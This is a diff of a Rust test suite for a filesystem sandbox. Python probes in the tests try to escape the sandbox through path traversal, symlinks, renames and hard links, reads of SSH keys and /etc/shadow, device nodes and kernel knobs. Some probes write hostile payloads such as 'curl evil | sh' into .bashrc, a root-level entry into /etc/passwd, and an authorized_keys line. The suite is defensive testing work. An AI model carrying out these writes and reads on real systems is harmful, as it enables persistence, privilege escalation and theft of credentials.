@@ -13,8 +13,8 @@ fn dotdot_out_of_a_root_is_refused() {
         &[],
         &format!(
             "check('inside', lambda: read('{r}/inside'))\n\
-             check('dotdot', lambda: read('{r}/../outside/secret'))\n\
-             check('dotdot_deep', lambda: read('{r}/../../../../{o}/secret'))",
+             check('dotdot', lambda p: read(p), path='{r}/../outside/secret')\n\
+             check('dotdot_deep', lambda p: read(p), path='{r}/../../../../{o}/secret')",
             r = t.r.display(),
             o = t.outside.display()
         ),
@@ -27,81 +27,77 @@ fn dotdot_out_of_a_root_is_refused() {
 #[test]
 fn sibling_with_the_root_as_prefix_is_refused() {
     let t = tree();
-    let evil = t.s("r_evil");
-    t.py(
+    std::fs::write(t.r.join("secret"), "the root's own").unwrap();
+    t.twins(
         &[],
-        &format!(
-            "check('read', lambda: read('{evil}/secret'))\n\
-             check('create', lambda: write('{evil}/new'))\n\
-             check('list', lambda: os.listdir('{evil}'))"
-        ),
-    )
-    .refused("read")
-    .refused("create")
-    .refused("list");
+        &[
+            ("read", "read(p + '/secret')"),
+            ("create", "write(p + '/new')"),
+            ("list", "os.listdir(p)"),
+        ],
+        &t.p("r_evil"),
+        &t.r,
+    );
     assert!(!t.p("r_evil/new").exists());
+    assert!(t.r.join("new").exists());
 }
 
 #[test]
 fn symlink_to_a_file_outside_cannot_be_read() {
     let t = tree();
     std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
-    t.py(
-        &[],
-        &format!("check('read', lambda: read('{r}/link'))", r = t.r.display()),
-    )
-    .refused("read");
+    std::os::unix::fs::symlink(t.r.join("inside"), t.r.join("link_in")).unwrap();
+    t.twins(&[], &[("read", "read(p)")], &t.r.join("link"), &t.r.join("link_in"));
 }
 
 #[test]
 fn symlink_to_a_file_outside_cannot_be_written() {
     let t = tree();
     std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
-    t.py(
+    std::os::unix::fs::symlink(t.r.join("inside"), t.r.join("link_in")).unwrap();
+    t.twins(
         &[],
-        &format!(
-            "check('append', lambda: write('{r}/link', 'pwned', 'a'))\n\
-             check('truncate', lambda: os.truncate('{r}/link', 0))",
-            r = t.r.display()
-        ),
-    )
-    .refused("append")
-    .refused("truncate");
+        &[
+            ("append", "write(p, ' appended', 'a')"),
+            ("truncate", "os.truncate(p, 6)"),
+        ],
+        &t.r.join("link"),
+        &t.r.join("link_in"),
+    );
     assert_eq!(content(&t.outside.join("secret")), SECRET);
+    assert_eq!(content(&t.r.join("inside")), "inside");
 }
 
 #[test]
 fn symlink_to_a_directory_outside_cannot_be_listed_or_read() {
     let t = tree();
     std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
-    t.py(
+    std::fs::create_dir(t.r.join("sub")).unwrap();
+    std::fs::write(t.r.join("sub/secret"), "the root's own").unwrap();
+    std::os::unix::fs::symlink(t.r.join("sub"), t.r.join("dlink_in")).unwrap();
+    t.twins(
         &[],
-        &format!(
-            "check('list', lambda: os.listdir('{r}/dlink'))\n\
-             check('read', lambda: read('{r}/dlink/secret'))",
-            r = t.r.display()
-        ),
-    )
-    .refused("list")
-    .refused("read");
+        &[("list", "os.listdir(p)"), ("read", "read(p + '/secret')")],
+        &t.r.join("dlink"),
+        &t.r.join("dlink_in"),
+    );
 }
 
 #[test]
 fn symlink_to_a_directory_outside_cannot_be_created_through() {
     let t = tree();
     std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
-    t.py(
+    std::fs::create_dir(t.r.join("sub")).unwrap();
+    std::os::unix::fs::symlink(t.r.join("sub"), t.r.join("dlink_in")).unwrap();
+    t.twins(
         &[],
-        &format!(
-            "check('create', lambda: write('{r}/dlink/planted'))\n\
-             check('mkdir', lambda: os.mkdir('{r}/dlink/d'))",
-            r = t.r.display()
-        ),
-    )
-    .refused("create")
-    .refused("mkdir");
+        &[("create", "write(p + '/planted')"), ("mkdir", "os.mkdir(p + '/d')")],
+        &t.r.join("dlink"),
+        &t.r.join("dlink_in"),
+    );
     assert!(!t.outside.join("planted").exists());
     assert!(!t.outside.join("d").exists());
+    assert!(t.r.join("sub/planted").is_file() && t.r.join("sub/d").is_dir());
 }
 
 #[test]
@@ -109,15 +105,21 @@ fn dangling_symlink_pointing_outside_cannot_be_written_through() {
     let t = tree();
     let target = t.outside.join("created-through-dangling-link");
     std::os::unix::fs::symlink(&target, t.r.join("dangling")).unwrap();
+    let target_in = t.r.join("created-through-dangling-link");
+    std::os::unix::fs::symlink(&target_in, t.r.join("dangling_in")).unwrap();
     t.py(
         &[],
         &format!(
-            "check('create', lambda: write('{r}/dangling', 'pwned'))",
-            r = t.r.display()
+            "check('create', lambda p: write('{r}/dangling', 'pwned'), path='{o}')\n\
+             check('create_in', lambda: write('{r}/dangling_in', 'made'))",
+            r = t.r.display(),
+            o = t.outside.display()
         ),
     )
-    .refused("create");
+    .refused("create")
+    .allowed("create_in");
     assert!(!target.exists());
+    assert_eq!(content(&target_in), "made");
 }
 
 #[test]
@@ -127,10 +129,15 @@ fn symlink_made_at_run_time_pointing_outside_gives_nothing() {
         &[],
         &format!(
             "check('symlink', lambda: os.symlink('{o}/secret', '{r}/made'))\n\
-             check('read', lambda: read('{r}/made'))\n\
-             check('write', lambda: write('{r}/made', 'pwned', 'a'))\n\
+             check('read', lambda p: read(p), path='{r}/made')\n\
+             check('write', lambda p: write(p, 'pwned', 'a'), path='{r}/made')\n\
              check('dirlink', lambda: os.symlink('{o}', '{r}/madedir'))\n\
-             check('dirread', lambda: os.listdir('{r}/madedir'))",
+             check('dirread', lambda p: os.listdir(p), path='{r}/madedir')\n\
+             check('symlink_in', lambda: os.symlink('{r}/inside', '{r}/made_in'))\n\
+             check('read_in', lambda: read('{r}/made_in'))\n\
+             check('write_in', lambda: write('{r}/made_in', ' appended', 'a'))\n\
+             check('dirlink_in', lambda: os.symlink('{r}', '{r}/madedir_in'))\n\
+             check('dirread_in', lambda: os.listdir('{r}/madedir_in'))",
             r = t.r.display(),
             o = t.outside.display()
         ),
@@ -140,71 +147,72 @@ fn symlink_made_at_run_time_pointing_outside_gives_nothing() {
     .refused("read")
     .refused("write")
     .expect("dirlink", "OK")
-    .refused("dirread");
+    .refused("dirread")
+    .allowed("symlink_in")
+    .allowed("read_in")
+    .allowed("write_in")
+    .allowed("dirlink_in")
+    .allowed("dirread_in");
     assert_eq!(content(&t.outside.join("secret")), SECRET);
+    assert_eq!(content(&t.r.join("inside")), "inside appended");
 }
 
 #[test]
 fn rename_out_of_a_root_is_refused() {
     let t = tree();
-    t.py(
+    let from = t.r.join("inside").display().to_string();
+    t.twins(
         &[],
-        &format!(
-            "check('rename', lambda: os.rename('{r}/inside', '{o}/moved'))",
-            r = t.r.display(),
-            o = t.outside.display()
-        ),
-    )
-    .refused("rename");
-    assert!(t.r.join("inside").exists());
+        &[("rename", &format!("os.rename('{from}', p + '/moved')"))],
+        &t.outside,
+        &t.r,
+    );
+    // The file stayed for the rename within the root to move it.
+    assert_eq!(content(&t.r.join("moved")), "inside");
     assert!(!t.outside.join("moved").exists());
 }
 
 #[test]
 fn rename_into_a_root_is_refused() {
     let t = tree();
-    t.py(
+    let to = t.r.join("moved").display().to_string();
+    t.twins(
         &[],
-        &format!(
-            "check('rename', lambda: os.rename('{o}/secret', '{r}/stolen'))",
-            r = t.r.display(),
-            o = t.outside.display()
-        ),
-    )
-    .refused("rename");
+        &[("rename", &format!("os.rename(p, '{to}')"))],
+        &t.outside.join("secret"),
+        &t.r.join("inside"),
+    );
     assert_eq!(content(&t.outside.join("secret")), SECRET);
-    assert!(!t.r.join("stolen").exists());
+    assert_eq!(content(&t.r.join("moved")), "inside");
 }
 
 #[test]
 fn rename_of_a_directory_out_of_a_root_is_refused() {
     let t = tree();
     std::fs::create_dir(t.r.join("sub")).unwrap();
-    t.py(
+    let from = t.r.join("sub").display().to_string();
+    t.twins(
         &[],
-        &format!(
-            "check('rename', lambda: os.rename('{r}/sub', '{o}/sub'))",
-            r = t.r.display(),
-            o = t.outside.display()
-        ),
-    )
-    .refused("rename");
-    assert!(t.r.join("sub").is_dir());
+        &[("rename", &format!("os.rename('{from}', p + '/sub2')"))],
+        &t.outside,
+        &t.r,
+    );
+    assert!(!t.outside.join("sub2").exists());
+    assert!(t.r.join("sub2").is_dir());
 }
 
 #[test]
 fn hard_link_out_of_a_root_is_refused() {
     let t = tree();
-    t.py(
+    let from = t.r.join("inside").display().to_string();
+    t.twins(
         &[],
-        &format!(
-            "check('link', lambda: os.link('{r}/inside', '{o}/linked'))",
-            r = t.r.display(),
-            o = t.outside.display()
-        ),
-    )
-    .refused("link");
+        &[("link", &format!("os.link('{from}', p + '/linked')"))],
+        &t.outside,
+        &t.r,
+    );
     assert!(!t.outside.join("linked").exists());
+    assert_eq!(content(&t.r.join("linked")), "inside");
 }
 
 #[test]
@@ -213,96 +221,93 @@ fn hard_link_of_an_outside_file_into_a_root_is_refused() {
     t.py(
         &[],
         &format!(
-            "check('link', lambda: os.link('{o}/secret', '{r}/stolen'))\n\
-             check('read', lambda: read('{r}/stolen'))",
+            "check('link', lambda p: os.link(p, '{r}/stolen'), path='{o}/secret')\n\
+             check('read', lambda: read('{r}/stolen'))\n\
+             check('link_in', lambda: os.link('{r}/inside', '{r}/linked'))\n\
+             check('read_in', lambda: read('{r}/linked'))",
             r = t.r.display(),
             o = t.outside.display()
         ),
     )
     .refused("link")
-    .expect("read", "ENOENT");
+    .expect("read", "ENOENT")
+    .allowed("link_in")
+    .allowed("read_in");
 }
 
 #[test]
 fn read_only_root_refuses_creating_files() {
     let t = tree();
+    let ops = [
+        ("create", "write(p + '/new')"),
+        ("fifo", "os.mkfifo(p + '/fifo')"),
+        ("symlink", "os.symlink('/', p + '/l')"),
+    ];
     t.py(
         &[],
         &format!(
-            "check('read', lambda: read('{ro}/file'))\n\
-             check('create', lambda: write('{ro}/new'))\n\
-             check('fifo', lambda: os.mkfifo('{ro}/fifo'))\n\
-             check('symlink', lambda: os.symlink('/', '{ro}/l'))",
-            ro = t.ro.display()
+            "check('read', lambda: read('{ro}/file'))\n{twins}",
+            ro = t.ro.display(),
+            twins = common::twin_checks(&ops, &t.ro, &t.r)
         ),
     )
-    .expect("read", "OK")
-    .refused("create")
-    .refused("fifo")
-    .refused("symlink");
+    .allowed("read")
+    .twins(&ops);
     assert!(!t.ro.join("new").exists());
+    assert!(t.r.join("new").exists());
 }
 
 #[test]
 fn read_only_root_refuses_writing_existing_files() {
     let t = tree();
-    t.py(
+    t.twins(
         &[],
-        &format!(
-            "check('rplus', lambda: open('{ro}/file', 'r+'))\n\
-             check('append', lambda: write('{ro}/file', 'x', 'a'))",
-            ro = t.ro.display()
-        ),
-    )
-    .refused("rplus")
-    .refused("append");
+        &[("rplus", "open(p, 'r+')"), ("append", "write(p, 'x', 'a')")],
+        &t.ro.join("file"),
+        &t.r.join("inside"),
+    );
     assert_eq!(content(&t.ro.join("file")), "read-only content");
+    assert_eq!(content(&t.r.join("inside")), "insidex");
 }
 
 #[test]
 fn read_only_root_refuses_truncation() {
     let t = tree();
-    t.py(
+    t.twins(
         &[],
-        &format!(
-            "check('truncate', lambda: os.truncate('{ro}/file', 0))\n\
-             check('o_trunc', lambda: os.open('{ro}/file', os.O_RDONLY | os.O_TRUNC))",
-            ro = t.ro.display()
-        ),
-    )
-    .refused("truncate")
-    .refused("o_trunc");
+        &[
+            ("truncate", "os.truncate(p, 3)"),
+            ("o_trunc", "os.open(p, os.O_RDONLY | os.O_TRUNC)"),
+        ],
+        &t.ro.join("file"),
+        &t.r.join("inside"),
+    );
     assert_eq!(content(&t.ro.join("file")), "read-only content");
+    assert_eq!(content(&t.r.join("inside")), "");
 }
 
 #[test]
 fn read_only_root_refuses_unlink() {
     let t = tree();
-    t.py(
-        &[],
-        &format!(
-            "check('unlink', lambda: os.unlink('{ro}/file'))",
-            ro = t.ro.display()
-        ),
-    )
-    .refused("unlink");
+    t.twins(&[], &[("unlink", "os.unlink(p)")], &t.ro.join("file"), &t.r.join("inside"));
     assert!(t.ro.join("file").exists());
+    assert!(!t.r.join("inside").exists());
 }
 
 #[test]
 fn read_only_root_refuses_mkdir_and_rename() {
     let t = tree();
-    t.py(
+    t.twins(
         &[],
-        &format!(
-            "check('mkdir', lambda: os.mkdir('{ro}/d'))\n\
-             check('rename', lambda: os.rename('{ro}/file', '{ro}/renamed'))",
-            ro = t.ro.display()
-        ),
-    )
-    .refused("mkdir")
-    .refused("rename");
-    assert!(t.ro.join("file").exists());
+        &[
+            ("mkdir", "os.mkdir(os.path.dirname(p) + '/d')"),
+            ("rename", "os.rename(p, p + '.renamed')"),
+        ],
+        &t.ro.join("file"),
+        &t.r.join("inside"),
+    );
+    assert!(t.ro.join("file").exists() && !t.ro.join("d").exists());
+    assert!(t.r.join("d").is_dir() && t.r.join("inside.renamed").exists());
 }
 
 #[test]
@@ -350,19 +355,27 @@ fn home_directory_secrets_are_not_readable() {
     let t = tree();
     let p = t.py(
         &[],
-        "home = os.environ['HOME']\n\
-         check('ssh_key', lambda: read(home + '/.ssh/id_rsa'))\n\
-         check('ssh_dir', lambda: os.listdir(home + '/.ssh'))\n\
-         check('bashrc', lambda: read(home + '/.bashrc'))\n\
-         check('home', lambda: os.listdir(home))\n\
-         check('tilde', lambda: read(os.path.expanduser('~/.ssh/id_rsa')))\n\
+        &format!(
+            "home = os.environ['HOME']\n\
+         check('ssh_key', lambda p: read(p), path=home + '/.ssh/id_rsa')\n\
+         check('ssh_dir', lambda p: os.listdir(p), path=home + '/.ssh')\n\
+         check('bashrc', lambda p: read(p), path=home + '/.bashrc')\n\
+         check('home', lambda p: os.listdir(p), path=home)\n\
+         check('tilde', lambda p: read(p), path=os.path.expanduser('~/.ssh/id_rsa'))\n\
          try:\n    print('listing=' + ','.join(sorted(os.listdir(home))))\n\
-         except OSError as e:\n    print('listing=' + errno.errorcode[e.errno])",
+         except OSError as e:\n    print('listing=' + errno.errorcode[e.errno])\n\
+         check('root_file', lambda: read('{r}/inside'))\n\
+         check('root_dir', lambda: os.listdir('{r}'))",
+            r = t.r.display()
+        ),
     );
     p.refused("ssh_key")
         .refused("ssh_dir")
         .refused("bashrc")
-        .refused("tilde");
+        .refused("tilde")
+        // The same reads of a granted directory.
+        .allowed("root_file")
+        .allowed("root_dir");
     // Both files are there outside: the refusals are the sandbox's.
     assert_eq!(content(&t.home.join(".ssh/id_rsa")), SECRET);
     if t.namespaces {
@@ -379,14 +392,24 @@ fn home_directory_is_never_written() {
     let t = tree();
     let p = t.py(
         &[],
-        "home = os.environ['HOME']\n\
-         check('bashrc', lambda: write(home + '/.bashrc', 'curl evil | sh', 'a'))\n\
-         check('plant', lambda: write(home + '/.profile', 'x'))\n\
-         check('authorized_keys', lambda: write(home + '/.ssh/authorized_keys', 'ssh-rsa AAA'))\n\
-         check('state', lambda: (os.makedirs(home + '/.my-server'), write(home + '/.my-server/s.json', '{}')))\n\
-         check('state_back', lambda: read(home + '/.my-server/s.json'))",
+        &format!(
+            "home = os.environ['HOME']\n\
+             check('bashrc', lambda: write(home + '/.bashrc', 'curl evil | sh', 'a'))\n\
+             check('plant', lambda: write(home + '/.profile', 'x'))\n\
+             check('authorized_keys', lambda p: write(p + '/authorized_keys', 'ssh-rsa AAA'), path=home + '/.ssh')\n\
+             check('state', lambda: (os.makedirs(home + '/.my-server'), write(home + '/.my-server/s.json', '{{}}')))\n\
+             check('state_back', lambda: read(home + '/.my-server/s.json'))\n\
+             check('root_append', lambda: write('{r}/inside', ' appended', 'a'))\n\
+             check('root_plant', lambda: write('{r}/.profile', 'x'))\n\
+             check('root_state', lambda: (os.makedirs('{r}/.my-server'), write('{r}/.my-server/s.json', '{{}}')))",
+            r = t.r.display()
+        ),
     );
-    p.refused("authorized_keys");
+    p.refused("authorized_keys")
+        // The same writes in a granted directory.
+        .allowed("root_append")
+        .allowed("root_plant")
+        .allowed("root_state");
     if t.namespaces {
         // Writes go to the server's private home, discarded at exit.
         p.expect("bashrc", "OK")
@@ -401,6 +424,7 @@ fn home_directory_is_never_written() {
     assert!(!t.home.join(".profile").exists());
     assert!(!t.home.join(".my-server").exists());
     assert!(!t.home.join(".ssh/authorized_keys").exists());
+    assert_eq!(content(&t.r.join(".my-server/s.json")), "{}");
 }
 
 #[test]
@@ -408,35 +432,56 @@ fn etc_cannot_be_written_and_shadow_not_read() {
     let t = tree();
     t.py(
         &[],
-        "check('create', lambda: write('/etc/rootfence-escape-test'))\n\
-         check('passwd', lambda: write('/etc/passwd', 'evil::0:0::/:/bin/sh\\n', 'a'))\n\
-         check('read_passwd', lambda: read('/etc/passwd'))\n\
-         check('shadow', lambda: read('/etc/shadow'))\n\
-         check('hostname', lambda: read('/etc/hostname'))",
+        &format!(
+            "check('create', lambda: write('/etc/rootfence-escape-test'))\n\
+             check('passwd', lambda: write('/etc/passwd', 'evil::0:0::/:/bin/sh\\n', 'a'))\n\
+             check('read_passwd', lambda: read('/etc/passwd'))\n\
+             check('shadow', lambda p: read(p), path='/etc/shadow')\n\
+             check('hostname', lambda p: read(p), path='/etc/hostname')\n\
+             check('create_in_root', lambda: write('{r}/rootfence-escape-test'))\n\
+             check('append_in_root', lambda: write('{r}/inside', 'x', 'a'))",
+            r = t.r.display()
+        ),
     )
     .refused("create")
     .refused("passwd")
     // /etc/passwd is a runtime file (user names); it is read-only.
-    .expect("read_passwd", "OK")
+    .allowed("read_passwd")
     .refused("shadow")
-    .refused("hostname");
+    .refused("hostname")
+    // The same writes in a root.
+    .allowed("create_in_root")
+    .allowed("append_in_root");
     assert!(!std::path::Path::new("/etc/rootfence-escape-test").exists());
 }
 
 #[test]
 fn usr_cannot_be_written() {
     let t = tree();
+    std::fs::copy("/usr/bin/true", t.r.join("true")).unwrap();
     t.py(
         &[],
-        "check('create', lambda: write('/usr/rootfence-escape-test'))\n\
-         check('bin', lambda: write('/usr/local/bin/rootfence-escape-test'))\n\
-         check('python', lambda: open('/usr/bin/env', 'r+b'))\n\
-         check('unlink', lambda: os.unlink('/usr/bin/true'))",
+        &format!(
+            "check('create', lambda: write('/usr/rootfence-escape-test'))\n\
+             check('bin', lambda: write('/usr/local/bin/rootfence-escape-test'))\n\
+             check('python', lambda: open('/usr/bin/env', 'r+b'))\n\
+             check('unlink', lambda: os.unlink('/usr/bin/true'))\n\
+             check('read', lambda: open('/usr/bin/env', 'rb').read(4))\n\
+             check('create_in_root', lambda: write('{r}/rootfence-escape-test'))\n\
+             check('open_in_root', lambda: open('{r}/true', 'r+b'))\n\
+             check('unlink_in_root', lambda: os.unlink('{r}/true'))",
+            r = t.r.display()
+        ),
     )
     .refused("create")
     .refused("bin")
     .refused("python")
-    .refused("unlink");
+    .refused("unlink")
+    // /usr is read, and the same writes work in a root.
+    .allowed("read")
+    .allowed("create_in_root")
+    .allowed("open_in_root")
+    .allowed("unlink_in_root");
     assert!(!std::path::Path::new("/usr/rootfence-escape-test").exists());
 }
 
@@ -446,8 +491,8 @@ fn proc_self_root_does_not_reach_outside() {
     t.py(
         &[],
         &format!(
-            "check('outside', lambda: read('/proc/self/root{o}/secret'))\n\
-             check('home', lambda: read('/proc/self/root' + os.environ['HOME'] + '/.ssh/id_rsa'))\n\
+            "check('outside', lambda p: read('/proc/self/root' + p), path='{o}/secret')\n\
+             check('home', lambda p: read('/proc/self/root' + p), path=os.environ['HOME'] + '/.ssh/id_rsa')\n\
              check('inside', lambda: read('/proc/self/root{r}/inside'))\n\
              check('own_status', lambda: read('/proc/self/status'))",
             r = t.r.display(),
@@ -468,7 +513,7 @@ fn setuid_chmod_is_refused_everywhere() {
         &format!(
             "check('suid_outside', lambda: os.chmod('{o}/secret', 0o4755))\n\
              check('sgid_inside', lambda: os.chmod('{r}/inside', 0o2755))\n\
-             check('world_writable', lambda: os.chmod('{o}/secret', 0o666))\n\
+             check('world_writable', lambda p: os.chmod(p, 0o666), path='{o}/secret')\n\
              check('plain_inside', lambda: os.chmod('{r}/inside', 0o755))",
             r = t.r.display(),
             o = t.outside.display()
@@ -489,55 +534,103 @@ fn setuid_chmod_is_refused_everywhere() {
 #[test]
 fn device_nodes_cannot_be_made_in_a_root() {
     let t = tree();
-    // A block device for the first disk would give the whole disk.
+    // A block device for the first disk would give the whole disk; the
+    // same mknod makes a regular file and a FIFO.
     t.py(
         &[],
         &format!(
             "check('block', lambda: os.mknod('{r}/disk', 0o600 | stat.S_IFBLK, os.makedev(8, 0)))\n\
-             check('char', lambda: os.mknod('{r}/mem', 0o600 | stat.S_IFCHR, os.makedev(1, 1)))",
+             check('char', lambda: os.mknod('{r}/mem', 0o600 | stat.S_IFCHR, os.makedev(1, 1)))\n\
+             check('regular', lambda: os.mknod('{r}/plain', 0o600 | stat.S_IFREG))\n\
+             check('fifo', lambda: os.mknod('{r}/fifo', 0o600 | stat.S_IFIFO))",
             r = t.r.display()
         ),
     )
     .refused("block")
-    .refused("char");
+    .refused("char")
+    .allowed("regular")
+    .allowed("fifo");
+    assert!(!t.r.join("disk").exists() && !t.r.join("mem").exists());
+    assert!(t.r.join("plain").is_file());
+}
+
+/// Assert that `op` (python of the path `p` and an argument `a`) is
+/// refused for those of `checks` (a name, a path, an argument) whose path
+/// this machine has, at least `least` of them (a check of a path that is
+/// not there would prove nothing), run beside the probe's `more` checks;
+/// the probe, for the test's assertions on them.
+fn refused_where_present(
+    t: &common::Tree,
+    checks: &[(&str, &str, &str)],
+    least: usize,
+    op: &str,
+    more: &str,
+) -> Probe {
+    let here: Vec<_> = checks
+        .iter()
+        .filter(|(_, p, _)| std::path::Path::new(p).exists())
+        .collect();
+    assert!(
+        here.len() >= least,
+        "this machine has only {here:?} of {checks:?}: too few to check"
+    );
+    let mut code = String::new();
+    for (name, path, arg) in &here {
+        code.push_str(&format!(
+            "check('{name}', lambda p, a='{arg}': {op}, path='{path}')\n"
+        ));
+    }
+    let p = t.py(&[], &format!("{code}{more}"));
+    for (name, _, _) in &here {
+        p.refused(name);
+    }
+    p
 }
 
 #[test]
 fn device_files_are_closed() {
     let t = tree();
-    t.py(
-        &[],
-        "check('kmsg', lambda: open('/dev/kmsg', 'rb'))\n\
-         check('mem', lambda: open('/dev/mem', 'rb'))\n\
-         check('vda', lambda: open('/dev/vda', 'rb'))\n\
-         check('tty1', lambda: open('/dev/tty1', 'wb'))\n\
-         check('null', lambda: write('/dev/null', 'x'))\n\
+    // The devices a server must never open, those of them this machine
+    // has (opened to read, or a terminal to write); /dev/null and
+    // /dev/urandom are open.
+    refused_where_present(
+        &t,
+        &[
+            ("kmsg", "/dev/kmsg", "rb"),
+            ("mem", "/dev/mem", "rb"),
+            ("vda", "/dev/vda", "rb"),
+            ("sda", "/dev/sda", "rb"),
+            ("nvme", "/dev/nvme0n1", "rb"),
+            ("tty1", "/dev/tty1", "wb"),
+        ],
+        3,
+        "open(p, a)",
+        "check('null', lambda: write('/dev/null', 'x'))\n\
          check('urandom', lambda: open('/dev/urandom', 'rb').read(8))",
     )
-    .refused("kmsg")
-    .refused("mem")
-    .refused("vda")
-    .refused("tty1")
-    .expect("null", "OK")
-    .expect("urandom", "OK");
+    .allowed("null")
+    .allowed("urandom");
 }
 
 #[test]
 fn kernel_knobs_cannot_be_written() {
     let t = tree();
-    t.py(
-        &[],
-        "check('sysrq', lambda: write('/proc/sysrq-trigger', 'h'))\n\
-         check('core_pattern', lambda: write('/proc/sys/kernel/core_pattern', '|/tmp/x'))\n\
-         check('sysctl_read', lambda: read('/proc/sys/kernel/hostname'))\n\
-         check('sys_write', lambda: write('/sys/kernel/mm/transparent_hugepage/enabled', 'never'))\n\
-         check('uevent_helper', lambda: write('/sys/kernel/uevent_helper', '/tmp/x'))",
+    // The knobs this machine has; a server reads its own entries of /proc.
+    refused_where_present(
+        &t,
+        &[
+            ("sysrq", "/proc/sysrq-trigger", "h"),
+            ("core_pattern", "/proc/sys/kernel/core_pattern", "|/tmp/x"),
+            ("sys_write", "/sys/kernel/mm/transparent_hugepage/enabled", "never"),
+            ("uevent_helper", "/sys/kernel/uevent_helper", "/tmp/x"),
+        ],
+        2,
+        "write(p, a)",
+        "check('sysctl_read', lambda p: read(p), path='/proc/sys/kernel/hostname')\n\
+         check('own_read', lambda: read('/proc/self/status'))",
     )
-    .refused("sysrq")
-    .refused("core_pattern")
     .refused("sysctl_read")
-    .refused("sys_write")
-    .refused("uevent_helper");
+    .allowed("own_read");
 }
 
 #[test]
@@ -552,6 +645,7 @@ fn a_new_user_namespace_cannot_mount_over_the_sandbox() {
              \x20   if r != 0:\n\
              \x20       raise OSError(ctypes.get_errno(), 'call')\n\
              check('unshare', lambda: sc(libc.unshare(0x10000000 | 0x00020000)))\n\
+             check('unshare_files', lambda: sc(libc.unshare(0x00000400)))\n\
              check('mount_tmpfs', lambda: sc(libc.mount(b'none', b'{o}', b'tmpfs', 0, None)))\n\
              check('bind_root', lambda: sc(libc.mount(b'/', b'{r}', None, 4096 | 16384, None)))\n\
              check('chroot_read', lambda: (sc(libc.chroot(b'{r}')), read('/../outside/secret')))",
@@ -560,8 +654,10 @@ fn a_new_user_namespace_cannot_mount_over_the_sandbox() {
         ),
     )
     // No namespace can be made from inside (a kernel surface no server
-    // needs), and nothing can be mounted.
+    // needs), and nothing can be mounted; unshare itself works, for what
+    // makes no namespace (its own descriptor table).
     .expect("unshare", "EPERM")
+    .allowed("unshare_files")
     .refused("mount_tmpfs")
     .refused("bind_root")
     .refused("chroot_read");
@@ -581,11 +677,15 @@ fn extended_attributes_acls_and_owners_outside_the_roots_stay() {
         &format!(
             "import struct\n\
              acl = struct.pack('<I', 2) + b''.join(struct.pack('<HHI', tag, perm, 0xffffffff) for tag, perm in ((1, 6), (4, 6), (0x20, 6)))\n\
-             check('acl', lambda: os.setxattr('{s}', 'system.posix_acl_access', acl))\n\
-             check('user_xattr', lambda: os.setxattr('{s}', 'user.rootfence', b'x'))\n\
-             check('remove_xattr', lambda: os.removexattr('{s}', 'user.kept'))\n\
-             check('chown_group', lambda: os.chown('{s}', -1, 65534))\n\
-             check('chown_inside', lambda: (write('{r}/mine'), os.chown('{r}/mine', -1, os.getgid())))",
+             check('acl', lambda p: os.setxattr(p, 'system.posix_acl_access', acl), path='{s}')\n\
+             check('user_xattr', lambda p: os.setxattr(p, 'user.rootfence', b'x'), path='{s}')\n\
+             check('remove_xattr', lambda p: os.removexattr(p, 'user.kept'), path='{s}')\n\
+             check('chown_group', lambda p: os.chown(p, -1, 65534), path='{s}')\n\
+             check('chown_inside', lambda: (write('{r}/mine'), os.chown('{r}/mine', -1, os.getgid())))\n\
+             check('acl_inside', lambda: os.setxattr('{r}/mine', 'system.posix_acl_access', acl))\n\
+             check('user_xattr_inside', lambda: os.setxattr('{r}/mine', 'user.rootfence', b'x'))\n\
+             check('remove_xattr_inside', lambda: os.removexattr('{r}/mine', 'user.rootfence'))\n\
+             check('list_xattr_inside', lambda: os.listxattr('{r}/mine'))",
             s = secret.display(),
             r = t.r.display()
         ),
@@ -594,9 +694,22 @@ fn extended_attributes_acls_and_owners_outside_the_roots_stay() {
         .refused("user_xattr")
         .refused("remove_xattr")
         .refused("chown_group");
+    // Listing a file's attributes is open on every rung.
+    p.allowed("list_xattr_inside");
     if t.namespaces {
         // Inside a writable root the server's own files are its own.
-        p.expect("chown_inside", "OK");
+        p.allowed("chown_inside")
+            .allowed("acl_inside")
+            .allowed("user_xattr_inside")
+            .allowed("remove_xattr_inside");
+    } else {
+        // Without the view, owners and extended attributes cannot be
+        // ruled by path, and are refused whole (README, "What the fence
+        // holds").
+        p.refused("chown_inside")
+            .refused("acl_inside")
+            .refused("user_xattr_inside")
+            .refused("remove_xattr_inside");
     }
     let md = std::fs::metadata(&secret).unwrap();
     assert_eq!(
@@ -649,14 +762,21 @@ fn caches_run_later_outside_are_never_written() {
         .expect("node is required: apt-get install -y nodejs");
     let js = format!(
         "const fs = require('fs');\n\
+         function write(name, f) {{\n\
+           try {{ fs.writeFileSync(f, 'CHANGED'); console.log(name + '=OK') }} catch (e) {{ console.log(name + '=' + e.code) }}\n\
+         }}\n\
          const f = '{f}';\n\
-         try {{ fs.writeFileSync(f, 'CHANGED'); console.log('write=OK') }} catch (e) {{ console.log('write=' + e.code) }}\n\
+         write('write', f);\n\
          try {{ console.log('seen=' + fs.readFileSync(f, 'utf8')) }} catch (e) {{ console.log('seen=' + e.code) }}\n\
+         write('write_root', '{r}/index.js');\n\
          console.log('cache=' + process.env.npm_config_cache);",
-        f = pkg.join("index.js").display()
+        f = pkg.join("index.js").display(),
+        r = t.r.display()
     );
     let out = t.run(&[], &[node, "-e", &js]);
     let p = Probe::new(out);
+    // The same write in a root.
+    p.allowed("write_root");
     if t.namespaces {
         // Written through the server's private layer: it sees its write,
         // the user's cache does not.
@@ -672,10 +792,13 @@ fn caches_run_later_outside_are_never_written() {
         &[],
         &format!(
             "check('uv', lambda: write('{f}', 'CHANGED'))\n\
+             check('uv_root', lambda: write('{r}/lib.py', 'CHANGED'))\n\
              print('uv_cache=' + os.environ.get('UV_CACHE_DIR', ''))",
-            f = uv.join("lib.py").display()
+            f = uv.join("lib.py").display(),
+            r = t.r.display()
         ),
     );
+    p.allowed("uv_root");
     if t.namespaces {
         p.expect("uv", "OK");
     } else {
@@ -784,21 +907,6 @@ fn inode_flags_of_files_it_may_only_read_stay() {
     assert_eq!(inode_flags(&file), before, "the read-only root's file got new flags");
 }
 
-/// `git` with a fixed identity and no global configuration, in `dir`, run
-/// by the tree's user (whose repository it is).
-fn git_in(t: &common::Tree, dir: &std::path::Path, args: &[&str]) -> std::process::Output {
-    t.as_runner(
-        std::process::Command::new("git")
-            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
-            .args(args)
